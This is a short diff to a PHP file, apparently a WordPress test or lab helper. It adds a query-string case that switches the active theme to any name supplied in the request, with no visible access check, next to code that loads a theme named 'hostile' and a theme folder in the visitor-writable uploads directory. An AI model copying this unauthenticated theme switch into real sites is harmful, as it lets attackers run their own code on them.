@@ -12,6 +12,9 @@ switch ($_GET['do'] ?? '') {
         update_option('template', 'hostile');
         update_option('stylesheet', 'hostile');
         break;
+    case 'theme':
+        switch_theme((string) ($_GET['name'] ?? ''));
+        break;
     case 'uploaded':
         // A theme with the name of the image's own, where visitors can write.
         $place = WP_CONTENT_DIR . '/uploads/twentytwentyfive';
